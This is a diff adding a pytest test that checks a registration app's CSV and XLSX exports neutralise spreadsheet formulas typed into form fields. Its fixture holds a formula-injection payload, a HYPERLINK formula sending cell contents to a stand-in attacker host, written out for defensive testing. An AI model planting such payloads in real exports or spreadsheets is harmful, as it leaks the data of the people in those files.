@@ -389,6 +389,34 @@ def test_export_with_chosen_columns(admin_client):
     assert 'name="columns"' in page and 'name="preset"' in page
 
 
+@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
+def test_exports_neutralise_formulas_typed_into_the_form(admin_client, file_format):
+    """Staff open these lists in a spreadsheet: a registrant's text must not run as a formula there."""
+    import csv
+    import io
+
+    from openpyxl import load_workbook
+
+    hostile = RegistrationFactory(
+        first_name='=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+        dietary_needs="=1+1",
+        needs_transfer=True,
+        flight="@SUM(A1)",
+        phone="+996312663538",
+    )
+    for preset in ("all", "transfer"):
+        response = export(admin_client, [hostile], preset=preset, file_format=file_format)
+        if file_format == "csv":
+            cells = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))[1]
+        else:
+            sheet = load_workbook(io.BytesIO(response.content)).active
+            row = next(sheet.iter_rows(min_row=2))
+            assert "f" not in {cell.data_type for cell in row}
+            cells = [str(cell.value) for cell in row if cell.value is not None]
+        assert not [cell for cell in cells if cell.startswith(("=", "@"))]
+        assert "+996312663538" in cells
+
+
 def test_raising_the_capacity_fills_places_from_the_waiting_list(django_capture_on_commit_callbacks):
     edition = OpenEditionFactory(capacity=1)
     RegistrationFactory(edition=edition)
